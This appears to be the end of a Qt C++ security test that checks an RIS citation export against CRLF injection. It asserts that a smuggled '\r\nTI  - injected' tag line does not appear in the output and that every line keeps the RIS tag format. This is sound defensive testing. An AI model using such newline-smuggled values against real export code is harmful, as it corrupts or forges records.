        QCOMPARE(bytes.count("TY  - "), 1);
        QVERIFY(!bytes.contains("\r\nTI  - injected"));
        static const QRegularExpression tagLine(QStringLiteral(R"(^[A-Z][A-Z0-9]  - .*$)"));
        for (const QString &line : QString::fromUtf8(bytes).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts))
            QVERIFY2(tagLine.match(line).hasMatch() && !line.contains(u'\n') && !line.contains(u'\r'), qPrintable(line));
    }
};

QTEST_GUILESS_MAIN(tst_Security)
#include "tst_security.moc"
